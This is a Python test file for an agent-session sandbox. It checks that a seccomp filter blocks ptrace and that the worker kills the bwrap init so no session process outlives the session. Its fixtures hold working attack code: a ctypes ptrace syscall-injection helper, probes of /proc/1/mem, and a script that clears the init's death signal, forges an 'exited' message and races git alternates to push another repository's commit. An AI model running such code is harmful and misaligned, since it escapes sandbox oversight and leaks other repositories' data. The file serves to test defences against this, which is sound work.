"""A hostile agent against the sandbox's own init (bwrap's pid 1 inside the sandbox).

The agent runs as the init's user. With ptrace it could once clear the init's
death signal and have it tell the worker "exited" while its processes lived on,
racing Ballet's push with alternates pointing at another repository's mirror
(found by red-teaming: the other repository's commit was pushed to the ticket
branch). Two defences, each tested on its own: a seccomp filter takes tracing
away, and the worker kills the init itself and waits for it, so nothing of a
session runs once the session has ended, whatever the init was made to say.
"""

from __future__ import annotations

import asyncio
import json
import os
import platform
import signal
import subprocess
from pathlib import Path

import pytest
from ballet.core.config import Runtime
from ballet.sessions import SessionOptions, Workspaces
from ballet.sessions.confine import Isolation, reaper
from ballet.sessions.confine.seccomp import ARCHITECTURES, deny_filter
from git_repos import git, make_origin, remote_refs
from process_namespaces import alive
from session_helpers import MakeSpec, WriteScript, run
from session_logs import RecordingSink, run_logged

# ptrace through ctypes, and a syscall run inside a stopped tracee (x86-64 only):
# the attacker's tools.
INJECT = r"""
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, GETREGS, SETREGS, PEEK, POKE, STEP = 16, 17, 12, 13, 1, 4, 9
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]
def pt(req, pid, addr=0, data=None):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), data)
    e = ctypes.get_errno()
    if r == -1 and e: raise OSError(e, os.strerror(e))
    return r
def regs(pid):
    r = Regs(); pt(GETREGS, pid, 0, ctypes.cast(ctypes.byref(r), ctypes.c_void_p)); return r
def syscall(pid, nr, *args, mem=None):
    saved, new = regs(pid), regs(pid)
    rip = saved.rip
    text = pt(PEEK, pid, rip) & 0xFFFFFFFFFFFFFFFF
    pt(POKE, pid, rip, ctypes.c_void_p((text & ~0xFFFF) | 0x050F))
    addr = (saved.rsp - 1024) & ~0xF
    if mem is not None:
        for i in range(0, len(mem), 8):
            word = struct.unpack("<Q", mem[i:i+8].ljust(8, b"\0"))[0]
            pt(POKE, pid, addr + i, ctypes.c_void_p(word))
    args = [addr if a == "MEM" else a for a in args]
    for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args):
        setattr(new, name, value)
    new.rax, new.orig_rax, new.rip = nr, 0xFFFFFFFFFFFFFFFF, rip
    pt(SETREGS, pid, 0, ctypes.cast(ctypes.byref(new), ctypes.c_void_p))
    pt(STEP, pid); os.waitpid(pid, 0x40000000)
    result = ctypes.c_longlong(regs(pid).rax).value
    pt(POKE, pid, rip, ctypes.c_void_p(text))
    pt(SETREGS, pid, 0, ctypes.cast(ctypes.byref(saved), ctypes.c_void_p))
    return result
"""

TRY_TRACING = r"""
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
def errno_of(call):
    ctypes.set_errno(0)
    return 0 if call() != -1 else ctypes.get_errno()
buf = ctypes.create_string_buffer(8)
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 8)
remote = IoVec(ctypes.c_void_p(0x400000), 8)
seen = {
    "ptrace_attach_init": errno_of(lambda: libc.ptrace(16, 1, None, None)),
    "process_vm_readv_init": errno_of(
        lambda: libc.syscall(310, 1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    ),
    "getpid": os.getpid(),
}
for path in ("/proc/1/mem", "/proc/1/task/1/mem"):
    try:
        os.close(os.open(path, os.O_RDWR))
        seen[path] = 0
    except OSError as error:
        seen[path] = error.errno

json.dump(seen, open(os.environ["OBS"] + "/tracing.json", "w"))
json.dump({"outcome": "done", "summary": "tried"}, open(os.environ["BALLET_REPORT"], "w"))
"""

# The attack: the ticket branch names a commit only another repository's mirror holds;
# a racer keeps pointing the clone's alternates at that mirror; the init is made to
# lose its death signal and to tell the worker "exited 0" while all of this runs.
RACE = (
    INJECT
    + r"""
import json, os, time
obs, other_sha = os.environ["OBS"], os.environ["OTHER_SHA"]
other_objects = os.environ["OTHER_OBJECTS"]
open(obs + "/ns", "w").write(os.readlink("/proc/self/ns/pid"))
ref = ".git/refs/heads/ballet/7-greeting"
os.makedirs(os.path.dirname(ref), exist_ok=True)
open(ref, "w").write(other_sha + "\n")
json.dump({"outcome": "done", "summary": "innocent"}, open(os.environ["BALLET_REPORT"], "w"))
if os.fork() == 0:
    os.setsid()
    fd = os.open("/dev/null", os.O_RDWR)
    for n in (0, 1, 2): os.dup2(fd, n)
    end = time.time() + 30
    while time.time() < end:
        with open(".git/objects/info/alternates.tmp", "w") as f: f.write(other_objects + "\n")
        os.rename(".git/objects/info/alternates.tmp", ".git/objects/info/alternates")
        open(obs + "/racer", "w").write(str(time.time()))
        time.sleep(0.0005)
    os._exit(0)
# The racer runs before the init is told anything, however loaded the machine.
deadline = time.time() + 10
while not os.path.exists(obs + "/racer") and time.time() < deadline:
    time.sleep(0.001)
fds = os.listdir("/proc/1/fd")
event = next(int(fd) for fd in fds if "eventfd" in os.readlink(f"/proc/1/fd/{fd}"))
pt(ATTACH, 1); os.waitpid(1, 0x40000000)
log = {"pdeathsig": syscall(1, 157, 1, 0)}
# Written (whole, by a rename) before the forged "exited": from that write on, the
# worker may end the sandbox, and this process with it, at any instant.
open(obs + "/attack.tmp", "w").write(json.dumps(log))
os.rename(obs + "/attack.tmp", obs + "/attack.json")
syscall(1, 1, event, "MEM", 8, mem=(1).to_bytes(8, "little"))
pt(DETACH, 1)
os.close(1); os.close(2)
time.sleep(3600)
"""
)

X86_64 = platform.machine() == "x86_64"


def test_the_filter_denies_the_tracing_calls_on_every_known_architecture() -> None:
    for machine, (_, calls) in ARCHITECTURES.items():
        program = deny_filter(machine)
        assert program is not None and len(program) % 8 == 0
        # One comparison per denied call, the arch check, two loads and two returns.
        extra = 1 if machine == "x86_64" else 0
        assert len(program) // 8 == len(set(calls.values())) + 5 + extra
    assert deny_filter("sparc") is None


@pytest.mark.skipif(not X86_64, reason="the attacker's syscall numbers are x86-64's")
def test_a_session_cannot_trace_the_sandbox_init(
    make_spec: MakeSpec,
    write_script: WriteScript,
    workspaces: Workspaces,
    options: SessionOptions,
    parent_env: dict[str, str],
    observed: Path,
) -> None:
    write_script("agent", TRY_TRACING)
    env = {**parent_env, "OBS": str(observed)}
    spec = make_spec(runtime=Runtime(adapter="command", command=("agent",), env=("OBS",)))
    result = run(spec, workspaces, env, options)
    assert result.failure_reason is None, result.report.summary
    seen = json.loads((observed / "tracing.json").read_text())
    assert seen["ptrace_attach_init"] == 1  # EPERM
    assert seen["process_vm_readv_init"] == 1
    assert seen["getpid"] > 1  # the agent ran in the sandbox, beside its init
    # No system call of its own, so no filter's: a read-only /dev/null over it.
    assert seen["/proc/1/mem"] != 0 and seen["/proc/1/task/1/mem"] != 0


def test_without_a_hold_on_its_init_a_sandbox_is_ended_by_its_namespace(tmp_path: Path) -> None:
    # The fallback when the worker has no pidfd on the init (out of descriptors, say):
    # every process of the pid namespace bwrap named is killed, the init included.
    read, write = os.pipe()
    sandbox = subprocess.Popen(
        ["bwrap", "--unshare-all", "--unshare-user", "--die-with-parent", "--ro-bind", "/", "/",
         "--proc", "/proc", "--dev", "/dev", "--info-fd", str(write), "--",
         "sh", "-c", "sleep 600 & setsid sleep 600 & sleep 600"],
        pass_fds=(write,), start_new_session=True,
    )  # fmt: skip
    os.close(write)
    with os.fdopen(read) as info_file:
        info = json.loads(info_file.read())
    namespace = info["pid-namespace"]
    try:
        asyncio.run(_wait_for_members(namespace, 3))
        asyncio.run(reaper._kill_namespace(namespace, 10))
        assert reaper._members(namespace) == []
        assert sandbox.wait(timeout=10) is not None
    finally:
        sandbox.kill()
        sandbox.wait()


async def _wait_for_members(namespace: int, count: int) -> None:
    for _ in range(500):
        if len(reaper._members(namespace)) >= count:
            return
        await asyncio.sleep(0.01)
    raise AssertionError(f"the sandbox never ran {count} processes")


@pytest.mark.skipif(not X86_64, reason="the attacker's ptrace code is x86-64's")
def test_nothing_of_a_session_outlives_it_even_with_its_init_subverted(
    make_spec: MakeSpec,
    write_script: WriteScript,
    workspaces: Workspaces,
    parent_env: dict[str, str],
    observed: Path,
    tmp_path: Path,
    origin: Path,
) -> None:
    other = make_origin(tmp_path / "other", {"SECRET.txt": "another repository's file\n"})
    asyncio.run(workspaces.refresh("acme/private", other.as_uri(), None))
    other_sha = git("rev-parse", "main", cwd=other)
    write_script("agent", RACE)
    env = {
        **parent_env,
        "OBS": str(observed),
        "OTHER_SHA": other_sha,
        "OTHER_OBJECTS": str(workspaces.mirror_path("acme/private") / "objects"),
    }
    runtime = Runtime(
        adapter="command", command=("agent",), env=("OBS", "OTHER_SHA", "OTHER_OBJECTS")
    )
    # The filter off, so the attack on the init succeeds: the worker must not care.
    unfiltered = SessionOptions(
        grace_seconds=0.5,
        isolation=Isolation(test_writable=(observed,), test_without_seccomp=True),
    )
    namespace = ""
    marker = f"OBS={observed}".encode()  # every process of the session inherits it
    sink = RecordingSink()
    try:
        spec = make_spec(runtime=runtime, timeout_seconds=20)
        result = run_logged(spec, workspaces, env, unfiltered, sink)
        namespace = (observed / "ns").read_text()
        attack = json.loads((observed / "attack.json").read_text())
        assert attack == {"pdeathsig": 0}  # the init lost its death signal
        # and told the worker "exited 0" (bwrap exits with the word the init writes,
        # less one) while the agent slept on: the agent never exits by itself.
        assert "session ended (exit code 0," in (sink.log or b"").decode(), sink.log
        assert _session_processes(namespace, marker) == []  # yet nothing of the session runs
        assert result.failure_reason == "push", result.report.summary
        assert "not a commit of the clone" in result.report.summary
        assert "refs/heads/ballet/7-greeting" not in remote_refs(origin)
        assert (observed / "racer").exists()  # the racer ran, and was ended with the rest
    finally:
        for pid in _session_processes(namespace, marker):  # should the test fail
            os.kill(pid, signal.SIGKILL)


def _session_processes(namespace: str, marker: bytes) -> list[int]:
    """The live processes in the session's pid namespace that carry its environment.
    The namespace's number names it only while it exists: the kernel gives a freed
    number to the next namespace made, in a parallel run another test's sandbox."""
    found = []
    for entry in os.scandir("/proc"):
        if not (entry.name.isdigit() and namespace and _namespace(entry.name) == namespace):
            continue
        try:
            environ = Path(f"/proc/{entry.name}/environ").read_bytes().split(b"\0")
        except OSError:
            continue
        if marker in environ and alive(int(entry.name)):
            found.append(int(entry.name))
    return found


def _namespace(pid: str) -> str | None:
    try:
        return os.readlink(f"/proc/{pid}/ns/pid")
    except OSError:
        return None
